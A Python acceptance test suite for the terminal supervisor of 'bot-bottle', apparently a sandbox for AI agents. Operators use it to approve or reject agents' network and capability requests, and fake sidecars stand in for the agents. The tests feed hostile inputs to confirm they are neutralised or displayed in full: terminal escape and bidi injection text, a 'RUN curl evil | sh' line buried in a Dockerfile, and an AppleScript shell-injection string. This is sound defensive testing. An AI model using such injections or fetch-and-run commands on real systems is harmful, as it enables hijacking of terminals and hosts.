"""The operator's screen as a person uses it: tmux, keys, captured screens; the sidecars are fakes (tests/fakes/control_server.py).

With real bottles: operator_test.py. BB_UPDATE_SCREENS=1 writes the captured screens anew: look at the difference before it is committed."""
import json
import os
import pathlib
import re
import shutil
import signal
import subprocess
import sys
import time
import unittest

from harness import AcceptanceTest, Terminal, wait_until

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "fakes"))
from control_server import FakeSidecar  # noqa: E402

SCREENS = pathlib.Path(__file__).resolve().parent / "screens"
SIZES = [(80, 24), (120, 40), (200, 60)]
KINDS = {"color": {}, "plain": {"NO_COLOR": "1"}, "vt100": {"TERM": "vt100"}, "ascii": {"LANG": "C", "LC_ALL": "C"}}
HOSTILE = "\x1b]0;owned\x07\x1b[2J\x1b[1;1Hfake\r\n\t\0\u202eevil\u2066\u200b e\u0301\u0301 \U0001f468\u200d\U0001f469 \u05d0 \x9b31m" + "x" * 3000


def settled(screen):
    """What is the same in each run."""
    return re.sub(r"\d\d:\d\d:\d\d", "HH:MM:SS", re.sub(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z", "TIME", screen))


class Tests(AcceptanceTest):
    def sidecar(self, home, slug, **metadata):
        fake = FakeSidecar(home.root, slug, **metadata)
        self.addCleanup(fake.close)
        return fake

    def screen(self, home, columns=80, rows=24, env=None, inside_tmux=False):
        environment = {**home.environment, **(env or {})}
        argv = home.argv("supervise")
        if not inside_tmux:
            argv = ["env", "-u", "TMUX", "-u", "TMUX_PANE", *argv]
        names = {name: value for name, value in (env or {}).items()}  # tmux sets TERM itself: the program gets ours
        argv = ["env", *[f"{name}={value}" for name, value in names.items()], *argv]
        terminal = Terminal(argv, home.top, environment, columns, rows, cwd=home.workspace)
        self.addCleanup(terminal.close)
        return terminal

    def press_until(self, terminal, key, what, condition):
        """What has only just come up is not answered (least_look): a person looks first, and so does this."""
        seen = time.monotonic()
        wait_until("a look at it", lambda: time.monotonic() - seen > 0.6)
        terminal.type(key)
        return wait_until(what, condition)

    def world(self):
        home = self.home()
        fakes = [self.sidecar(home, slug, label=label) for slug, label in
                 (("docs-writer", ""), ("fixer-a1b2c", "issue-42"), ("reviewer-x", ""))]
        fakes[1].propose("k3x9p2ab", host="api.example.com", proposed_at="2026-11-28T19:00:00.000Z", justification="The build needs this API.\nOnly to read.",
                         facts=[{"label": "widens", "text": "a new host, every path, every method"},
                                {"label": "would have let through", "text": "3 requests that were blocked: GET /v1/models"}])
        fakes[0].propose("q7w8e9rt", kind="ask-operator", change={"question": "Which licence shall the file have?"},
                         choices=["MIT", "Apache-2.0"])
        fakes[0].allowed_hosts.add("api.example.com")
        for number in range(8):
            fakes[number % 3].event(time=f"2026-11-28T19:00:{number:02}.000Z", method="GET", host=f"h{number}.example.com", path="/x", reason="no route for it")
        return home, fakes

    def test_captured_screens_are_as_they_were_drawn(self):
        home, fakes = self.world()
        for kind, env in KINDS.items():
            for columns, rows in SIZES:
                with self.subTest(kind=kind, columns=columns):
                    terminal = self.screen(home, columns, rows, env)
                    self.ready(terminal)
                    captured = {"panes": terminal.tmux("capture-pane", "-e", "-p")}
                    terminal.type("G")
                    terminal.key("Enter")
                    terminal.wait_for("end of")
                    terminal.key("Escape")
                    terminal.wait_for("proposals (2)")
                    terminal.type("g")
                    terminal.key("Enter")
                    terminal.wait_for("also allowed by: docs-writer")
                    captured["detail"] = terminal.tmux("capture-pane", "-e", "-p")
                    terminal.type("q")
                    terminal.type("?")
                    terminal.wait_for("Ctrl-L")
                    captured["help"] = terminal.tmux("capture-pane", "-e", "-p")
                    terminal.type("q")
                    terminal.type("q")
                    terminal.wait_for("EXIT=0")
                    self.assertTrue(terminal.terminal_was_restored())
                    terminal.close()
                    for name, screen in captured.items():
                        self.compare(f"{name}-{columns}x{rows}-{kind}", screen)

    def ready(self, terminal):
        """All is there; the oldest is selected."""
        wait_until("proposals and events", lambda: all(text in terminal.screen() for text in ("api.example.com", "licence", "h7.")))
        terminal.type("g")

    def compare(self, name, screen):
        colors = set(re.findall(r"\x1b\[[0-9;]*(?:3[0-7]|38;5;\d+)[0-9;]*m", screen))
        if not name.endswith(("color", "ascii")):
            self.assertEqual(colors, set(), f"{name}: no colours were wanted")
        elif not name.startswith("help"):
            self.assertNotEqual(colors, set(), f"{name}: colours were wanted")
        if name.endswith("ascii"):
            self.assertTrue(screen.isascii(), name)
        text = settled(re.sub(r"\x1b\[[0-9;]*m|[\x0e\x0f]", "", screen))
        text = "\n".join(line.rstrip() for line in text.split("\n"))
        file = SCREENS / f"{name}.txt"
        if os.environ.get("BB_UPDATE_SCREENS"):
            SCREENS.mkdir(exist_ok=True)
            file.write_text(text)
        self.assertEqual(text, file.read_text(), name)

    def test_approve_reject_narrow_and_answer_by_keys(self):
        home, fakes = self.world()
        fakes[2].propose("r1r1r1r1", host="evil.example.com")
        terminal = self.screen(home)
        terminal.wait_for("evil.example.com")
        self.ready(terminal)
        terminal.type("a")
        terminal.wait_for("look at it")
        self.press_until(terminal, "t", "the choice", lambda: "o once" in terminal.screen())
        terminal.type("t")
        terminal.type("10m")
        terminal.key("Enter")
        answer = wait_until("an answer", lambda: fakes[1].answers)[0]
        self.assertEqual((answer["decision"], answer["narrow"]), ("approve", {"seconds": 600}))
        terminal.wait_for("proposals (2)")
        terminal.type("j")
        terminal.key("Enter")
        terminal.wait_for("end of r1r1r1r1")
        terminal.type("r")
        terminal.wait_for("no, because")
        terminal.type("not that one")
        terminal.key("Enter")
        answer = wait_until("an answer", lambda: fakes[2].answers)[0]
        self.assertEqual((answer["decision"], answer["reason"]), ("reject", "not that one"))
        terminal.wait_for("proposals (1)")
        terminal.key("Enter")
        terminal.wait_for("Apache-2.0")
        self.press_until(terminal, "a", "the prompt", lambda: "choice's number" in terminal.screen())
        terminal.type("2")
        terminal.key("Enter")
        self.assertEqual(wait_until("an answer", lambda: fakes[0].answers)[0]["text"], "Apache-2.0")
        terminal.wait_for("nothing is asked")
        terminal.type("q")
        terminal.wait_for("EXIT=0")
        lines = json.loads(home.run("audit", "--json", check=0).stdout)["entries"]
        self.assertEqual(sorted(line["decision"] for line in lines), ["apply", "apply", "approve", "approve", "reject"])
        home.run("audit", "verify", check=0)

    def test_modify_and_routes_in_the_editor(self):
        home, fakes = self.world()
        editor = home.top / "editor"
        editor.write_text("#!/bin/sh\nsed -i 's/api\\.example\\.com/narrow.example.com/; s/live/edited/' \"$1\"\n")
        editor.chmod(0o755)
        terminal = self.screen(home, env={"EDITOR": str(editor)})
        self.ready(terminal)
        terminal.key("Enter")
        terminal.wait_for("end of k3x9p2ab")
        self.press_until(terminal, "m", "a modification", lambda: fakes[1].answers)
        answer = fakes[1].answers[0]
        self.assertEqual((answer["decision"], answer["change"]), ("modify", {"host": "narrow.example.com"}))
        terminal.wait_for("proposals (1)")
        terminal.key("Tab")
        terminal.type("e")  # the first bottle is selected
        try:
            terminal.wait_for("are as you wrote them")
        except AssertionError as error:
            self.fail(f"{error}\n--- calls {fakes[0].calls} {fakes[0].live!r}")
        self.assertIn("edited.example.com", fakes[0].live)
        terminal.type("q")
        terminal.wait_for("EXIT=0")
        entries = json.loads(home.run("audit", "docs-writer", "--json", check=0).stdout)["entries"]
        self.assertEqual([entry["decision"] for entry in entries], ["edit"])
        self.assertIn("edited.example.com", entries[0]["after"])

    def test_what_moves_while_it_is_looked_at_is_not_approved(self):
        home, fakes = self.world()
        terminal = self.screen(home)
        self.ready(terminal)
        terminal.key("Enter")
        terminal.wait_for("end of k3x9p2ab")
        fakes[1].move("k3x9p2ab", change={"host": "other.example.com"},
                      diff={"before": "a\n", "after": "a\nother.example.com\n"})
        terminal.wait_for("MOVED")
        terminal.type("a")
        terminal.wait_for("only just come up")
        self.assertEqual(fakes[1].answers, [])
        self.press_until(terminal, "a", "an answer", lambda: fakes[1].answers)
        self.assertEqual(fakes[1].answers[0]["hash"], fakes[1].proposals["k3x9p2ab"]["hash"])

    def test_new_ones_ring_are_marked_and_set_the_title(self):
        home, fakes = self.world()
        terminal = self.screen(home)
        terminal.wait_for("proposals (2)")
        self.assertNotIn("NEW", terminal.screen())
        rang = home.top / "rang"
        terminal.tmux("set-option", "-g", "monitor-bell", "on")
        terminal.tmux("set-option", "-g", "bell-action", "any")
        terminal.tmux("set-hook", "-g", "alert-bell", f"run-shell 'touch {rang}'")
        fakes[2].propose("n1n1n1n1", host="new.example.com")
        began = time.monotonic()
        terminal.wait_for("NEW")
        self.assertIn("new.example.com", next(line for line in terminal.screen().split("\n") if "NEW" in line))
        wait_until("the title", lambda: terminal.tmux("display-message", "-p", "#{pane_title}").strip() == "(3) bot-bottle supervise")
        wait_until("the bell", rang.exists)
        wait_until("the mark's end", lambda: "NEW" not in terminal.screen(), 10)
        self.assertGreater(time.monotonic() - began, 4)

    def test_the_window_changes_its_size(self):
        home, fakes = self.world()
        terminal = self.screen(home)
        terminal.wait_for("api.example.com")
        for columns, rows in [(120, 40), (45, 10), (20, 4), (200, 60), (80, 24)]:
            terminal.resize(columns, rows)
            wanted = "too small" if columns < 40 else "proposals (2)"
            screen = wait_until(f"{columns}x{rows}", lambda: wanted in terminal.screen() and terminal.screen())
            self.assertLessEqual(max(map(len, screen.split("\n"))), columns)
        fakes[0].propose("after111", host="after.example.com")
        terminal.wait_for("after.example.com")

    def test_K4_hostile_text_is_harmless_on_the_screen_in_logs_and_in_json(self):
        home, fakes = self.world()
        fields = dict(kind=HOSTILE, justification=HOSTILE, reason=HOSTILE, by=HOSTILE, proposed_at=HOSTILE, choices=[HOSTILE],
                      facts=[{"label": HOSTILE, "text": HOSTILE}], change={"host": HOSTILE, HOSTILE: HOSTILE},
                      diff={"before": HOSTILE, "after": HOSTILE + "\n" + HOSTILE})
        fakes[2].propose("h0h0h0h0", **fields)
        fakes[2].propose("\x1b[2Jid", host="bad-id.example.com")
        fakes[2].event(event=HOSTILE, kind=HOSTILE, level=HOSTILE, host=HOSTILE, method=HOSTILE, path=HOSTILE, reason=HOSTILE,
                       rule=HOSTILE, where=HOSTILE)
        terminal = self.screen(home, 120, 40)
        terminal.wait_for("proposals (3)")
        terminal.type("g")  # its time sorts before all others
        screens = [terminal.wait_for("\\x1b")]
        terminal.key("Enter")
        screens.append(terminal.wait_for("what was computed"))
        terminal.type("w")
        for _ in range(12):
            terminal.key("PageDown")
            screens.append(terminal.screen())
        title = terminal.tmux("display-message", "-p", "#{pane_title}")
        self.assertNotIn("owned", title)
        for screen in screens:
            for bad in "\x1b\x07\x00\u202e\u2066\u200b\u0301\u05d0\x9b":
                self.assertNotIn(bad, screen)
            self.assertTrue(screen.startswith(" bot-bottle supervise"), "the first line is ours")
            self.assertNotIn("\nfake", screen)
        terminal.type("q")
        terminal.key("Tab")
        terminal.type("G")
        terminal.type("l")
        self.assertNotIn("\u202e", terminal.wait_for("events of"))
        for arguments in (["supervise", "--once"], ["supervise", "--once", "--json"], ["logs", "reviewer-x"],
                          ["supervise", "reject", "h0h0h0h0", "--reason", HOSTILE.replace("\0", "")], ["audit"], ["audit", "--json"], ["audit", "-v"]):
            result = home.run(*arguments, check=0)
            for text in (result.stdout, result.stderr):
                self.assertNotIn("owned\x07", text, arguments)
                for bad in "\x1b\x07\x00\r\u202e\u2066\u200b\x9b":
                    self.assertNotIn(bad, text, arguments)
            if "--json" in arguments:
                json.loads(result.stdout)
                self.assertTrue(result.stdout.isascii())
        home.run("audit", "verify", check=0)

    def test_a_silent_bottle_delays_no_other_and_an_older_one_is_polled(self):
        home, fakes = self.world()
        fakes[2].mute = True
        fakes[1].knows_watch = False
        terminal = self.screen(home)
        terminal.wait_for("api.example.com")
        fakes[0].propose("fast1111", host="fast.example.com")
        terminal.wait_for("fast.example.com", 3)
        fakes[1].propose("slow1111", host="slow.example.com")
        terminal.wait_for("slow.example.com", 5)
        fakes[0].close()
        terminal.wait_for("silent")
        terminal.type("q")
        terminal.wait_for("EXIT=0")

    def test_a_signal_and_a_lost_terminal_end_it_in_order(self):
        home, fakes = self.world()
        for number, code in ((signal.SIGTERM, 143), (signal.SIGHUP, 129)):
            terminal = self.screen(home)
            terminal.wait_for("api.example.com")
            pid = next(pid for pid, line in home.own_processes().items() if line.startswith(str(home.program)) and "supervise" in line)
            os.kill(pid, number)
            terminal.wait_for(f"EXIT={code}")
            self.assertTrue(terminal.terminal_was_restored())
            terminal.close()
        self.assertNotEqual(home.run("supervise").returncode, 0, "no terminal")
        terminal = self.screen(home, env={"TERM": "no-such-terminal"})
        terminal.wait_for("is not known here")

    def test_scripts_answer_what_they_looked_at(self):
        home, fakes = self.world()
        shown = {one["id"]: one for one in json.loads(home.run("supervise", "--once", "--json", check=0).stdout)["proposals"]}
        old = shown["k3x9p2ab"]["hash"]
        fakes[1].move("k3x9p2ab")
        refused = home.run("supervise", "approve", "k3x9p2ab", "--hash", old, check=1)
        self.assertIn("has moved", refused.stderr)
        self.assertIn("supervise --once", refused.stderr)
        self.assertIn("is a question", home.run("supervise", "approve", "q7w8e9rt", check=2).stderr)
        self.assertIn("is no question", home.run("supervise", "answer", "k3x9p2ab", "x", check=2).stderr)
        for bad in (["--for", "soon"], ["--requests", "0"], ["--bytes", "5x"], ["--once", "--for", "1m"]):
            home.run("supervise", "approve", "k3x9p2ab", *bad, check=2)
        self.assertIn("no bottle", home.run("supervise", "approve", "nobody00", check=1).stderr)
        self.assertEqual(fakes[1].answers, [])
        fakes[2].propose("k3x9p2ab", host="borrowed.example.com")  # a sidecar that was taken over borrows an id
        self.assertIn("several bottles", home.run("supervise", "approve", "k3x9p2ab", check=2).stderr)
        home.run("supervise", "approve", "k3x9p2ab", "--bottle", "fixer-a1b2c", "--requests", "3", check=0)
        self.assertEqual((fakes[1].answers[0]["narrow"], fakes[2].answers), ({"requests": 3}, []))
        change = home.top / "change.json"
        change.write_text('{"host": "narrow.example.com"}')
        home.run("supervise", "modify", "k3x9p2ab", "--file", change, check=0)
        self.assertEqual(fakes[2].answers[0]["change"], {"host": "narrow.example.com"})
        home.run("supervise", "answer", "q7w8e9rt", "MIT", check=0)
        self.assertEqual(fakes[0].answers[0]["text"], "MIT")
        fakes[0].applies = lambda proposal: "the disk is full"
        fakes[0].propose("f0f0f0f0", host="x.example.com")
        out = json.loads(home.run("supervise", "approve", "f0f0f0f0", "--json").stdout)
        self.assertEqual((out["state"], out["reason"]), ("pending", "the disk is full"))

    def test_nothing_is_decided_that_cannot_be_recorded(self):
        home, fakes = self.world()
        home.run("supervise", "answer", "q7w8e9rt", "MIT", check=0)
        file = home.root / "audit" / "docs-writer.jsonl"
        file.write_text(file.read_text().replace('"apply"', '"other"'))
        fakes[0].propose("d1d1d1d1", host="x.example.com")
        self.assertIn("audit verify", home.run("supervise", "approve", "d1d1d1d1", check=1).stderr)
        self.assertEqual(len(fakes[0].answers), 1)
        self.assertIn("was changed", home.run("audit", "verify", "docs-writer", check=1).stdout)

    def test_a_script_is_shown_the_whole_of_what_it_approves(self):
        home = self.home()
        fake = self.sidecar(home, "writer")
        recipe = "FROM debian:12-slim\n" + "# nothing\n" * 300 + "RUN curl evil | sh\nUSER 1000\n"
        fake.propose("w1w1w1w1", kind="capability-block", change={"dockerfile": recipe}, diff={"before": "", "after": "harmless"})
        regex = "^/safe/" + "a" * 3000 + "|/.*END$"
        fake.propose("w2w2w2w2", host="api.example.com", diff={"before": "", "after": "matches:\n  - " + regex + "\n"},
                     facts=[{"label": "lets through", "text": f"finding {number} " + "p" * 2000 + "SNIPPET"} for number in range(200)])
        shown = home.run("supervise", "--once", check=0).stdout
        self.assertIn("+   RUN curl evil | sh\n", shown)
        self.assertNotIn("harmless", shown, "what runs on the host is read from what is approved")
        self.assertIn("/.*END$", shown.replace("\n  +>", ""))
        whole = shown.replace("\n    > ", "")
        self.assertEqual(whole.count("SNIPPET"), 200)
        self.assertTrue(all(line.startswith(("w1w1", "w2w2", "  ")) for line in shown.splitlines()), "no terminal wraps it into a line of ours")
        self.assertTrue(max(map(len, shown.splitlines())) < 130)

    def test_a_sidecar_that_writes_without_end_delays_no_other(self):
        home, fakes = self.world()
        fakes[2].floods = True
        self.assertIn("k3x9p2ab", home.run("supervise", "--once", check=0, timeout=20).stdout)
        home.run("supervise", "answer", "q7w8e9rt", "MIT", check=0, timeout=20)
        terminal = self.screen(home)
        terminal.wait_for("api.example.com")
        fakes[0].propose("fast1111", host="fast.example.com")
        terminal.wait_for("fast.example.com", 10)
        terminal.type("q")
        terminal.wait_for("EXIT=0")

    def test_a_sidecar_that_invents_proposals_buries_no_others(self):
        home = self.home()
        loud, quiet = (self.sidecar(home, slug) for slug in ("loud", "quiet"))
        for number in range(200):
            loud.propose(f"x{number:07}", host=f"h{number}.example.com")
        quiet.propose("q1q1q1q1", host="mine.example.com")
        terminal = self.screen(home, 120, 40)
        terminal.wait_for("65 pending")

    def test_a_flood_of_one_bottles_events_hides_no_others(self):
        home = self.home()
        quiet, loud = (self.sidecar(home, slug) for slug in ("quiet", "zealous"))
        quiet.event(method="GET", host="first.example.com", path="/", reason="no route for it")
        terminal = self.screen(home, 120, 40)
        terminal.wait_for("first.example.com")
        for number in range(4000):
            loud.event(method="GET", host=f"h{number}.example.com", path="/", reason="no route for it")
            if number % 800 == 799:  # one look takes 256 KiB of a log: each part is to be seen
                terminal.wait_for(f"h{number}.example.com")
        terminal.key("Tab")
        terminal.type("l")
        terminal.wait_for("first.example.com")

    def test_the_yes_to_a_stop_is_for_the_bottle_that_was_asked_about(self):
        home, fakes = self.world()
        terminal = self.screen(home, 120, 40)
        terminal.wait_for("api.example.com")
        terminal.key("Tab")
        terminal.type("x")
        terminal.wait_for("stop docs-writer? y/N")
        fakes[0].close()
        shutil.rmtree(fakes[0].state)
        terminal.wait_for("docs-writer is gone: nothing was stopped")
        terminal.type("y")
        terminal.type("?")
        terminal.wait_for("j/k move")
        self.assertNotIn("stop fixer", terminal.screen())

    def test_the_desktop_is_told_in_our_words_alone(self):
        for program, env, words in (("notify-send", {"DISPLAY": ":7"}, ["--app-name=bot-bottle", "bot-bottle", "an agent asks for something"]),
                                    ("osascript", {}, ["-e", 'display notification "an agent asks for something" with title "bot-bottle"'])):
            home = self.home()
            fake = self.sidecar(home, "writer")
            programs = home.top / "programs"
            programs.mkdir()
            (programs / program).write_text(f'#!/bin/sh\nprintf "%s\\n" "$@" >> {home.top}/told.new; mv {home.top}/told.new {home.top}/told\n')
            (programs / program).chmod(0o755)
            terminal = self.screen(home, env={"PATH": f"{programs}:/usr/bin:/bin", "DBUS_SESSION_BUS_ADDRESS": "", **env})
            terminal.wait_for("nothing is asked")
            fake.propose("n1n1n1n1", host="api.example.com", justification='x" & do shell script "touch owned')
            told = wait_until("the notification", lambda: (home.top / "told").exists() and (home.top / "told").read_text())
            self.assertEqual(told.splitlines(), words)

    def test_a_bottle_whose_new_image_was_approved_and_that_nobody_ended_is_pointed_out(self):
        # As after a kill -9 of the one who approved, between the answer and the stop.
        home, fakes = self.world()
        fakes[0].stop_due = True
        once = home.run("supervise", "--once", check=0)
        self.assertIn("bot-bottle stop docs-writer, then resume docs-writer", once.stderr)
        self.assertEqual(json.loads(home.run("supervise", "--once", "--json", check=0).stdout)["stop_due"], ["docs-writer"])
        terminal = self.screen(home)
        shown = terminal.wait_for("stop due")
        self.assertEqual(shown.count("stop due"), 1)

    def test_kill_9_between_any_two_writes_of_a_script_loses_and_doubles_nothing(self):
        home, fakes = self.world()
        points = ["answer-begin", "answer-sent", "audit-begin", "audit-half", "audit-line", "audit-head"]
        for number, point in enumerate(points):
            id = f"c{number}c{number}"
            fakes[0].propose(id, host=f"{id}.example.com")
            killed = home.run("supervise", "approve", id, env={"BOT_BOTTLE_TEST_KILL_AT": point})
            self.assertEqual(killed.returncode, -signal.SIGKILL, point)
            if point == "answer-begin":  # nothing was said yet: it is still asked
                home.run("supervise", "approve", id, check=0)
            else:
                self.assertNotEqual(home.run("supervise", "approve", id).returncode, 0, "it was answered")
            entries = json.loads(home.run("audit", "docs-writer", "--json", check=0).stdout)["entries"]
            own = [entry["decision"] for entry in entries if entry["proposal"] == id]
            self.assertEqual(own, ["approve", "apply"], point)
            home.run("audit", "verify", check=0)
        self.assertEqual(len(fakes[0].answers), len(points))

    def test_kill_9_between_any_two_writes_of_the_screen_loses_and_doubles_nothing(self):
        home, fakes = self.world()
        points = ["answer-begin", "answer-sent", "audit-begin", "audit-half", "audit-line", "audit-head"]
        for number, point in enumerate(points):
            id = f"s{number}s{number}"
            for fake in fakes:
                for one in list(fake.proposals.values()):
                    one["state"] = "expired"
            fakes[0].propose(id, host=f"{id}.example.com")
            terminal = self.screen(home, env={"BOT_BOTTLE_TEST_KILL_AT": point})
            terminal.wait_for(f"{id}.example.com")
            terminal.key("Enter")
            terminal.wait_for(f"end of {id}")
            self.press_until(terminal, "a", "its end", lambda: "EXIT=137" in terminal.screen())
            terminal.close()
            if point == "answer-begin":
                self.assertEqual(fakes[0].answers, [], "nothing was said yet")
                home.run("supervise", "approve", id, check=0)
            entries = json.loads(home.run("audit", "docs-writer", "--json", check=0).stdout)["entries"]
            self.assertEqual([entry["decision"] for entry in entries if entry["proposal"] == id], ["approve", "apply"], point)
            home.run("audit", "verify", check=0)
        self.assertEqual(len(fakes[0].answers), len(points))


if __name__ == "__main__":
    unittest.main()
